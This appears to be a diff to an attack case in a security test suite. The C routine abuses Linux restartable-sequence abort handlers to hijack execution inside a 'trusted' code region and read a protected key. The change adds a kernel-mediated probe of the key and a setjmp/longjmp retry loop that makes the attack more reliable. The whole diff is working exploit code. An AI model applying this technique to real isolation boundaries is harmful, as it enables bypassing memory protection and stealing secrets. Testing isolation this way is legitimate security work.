@@ -8,6 +8,7 @@
 #include <errno.h>
 #include <pthread.h>
 #include <sched.h>
+#include <setjmp.h>
 #include <stdlib.h>
 #include <sys/rseq.h>
 #include <sys/syscall.h>
@@ -15,8 +16,25 @@
 
 static const struct evil_target *victim;
 static _Alignas(32) struct rseq_cs section;
+static jmp_buf again;
+
+// By the kernel, which takes the thread's rights and answers EFAULT where the thread would die.
+static int key_is_open(void) {
+    int ends[2];
+    int open;
+
+    if (pipe(ends) != 0)
+        return 0;
+    open = write(ends[1], victim->key, 1) == 1;
+    close(ends[0]);
+    close(ends[1]);
+    return open;
+}
 
 void evil_rseq_landed(void) {
+    // Preempted at the edges of trusted code, where its rights are not open yet or no longer.
+    if (!key_is_open())
+        longjmp(again, 1);
     exit(evil_got(victim, victim->key, "the abort handler of an rseq section over trusted code"));
 }
 
@@ -31,6 +49,7 @@ static void *compete(void *unused) {
 int evil_rseq(const struct evil_target *target) {
     static _Alignas(32) struct rseq own;
     struct rseq *area = (struct rseq *)((char *)__builtin_thread_pointer() + __rseq_offset);
+    static int tries;
     pthread_t thread;
     cpu_set_t one;
 
@@ -51,7 +70,8 @@ int evil_rseq(const struct evil_target *target) {
     section.start_ip = (uintptr_t)target->trusted;
     section.post_commit_offset = target->trusted_size;
     section.abort_ip = (uintptr_t)evil_rseq_abort;
-    for (int i = 0; i < 1000; i++) {
+    setjmp(again);
+    while (tries++ < 1000) {
         // The kernel clears it when it finds the thread elsewhere.
         ((volatile struct rseq *)area)->rseq_cs = (uintptr_t)&section;
         target->call_trusted();
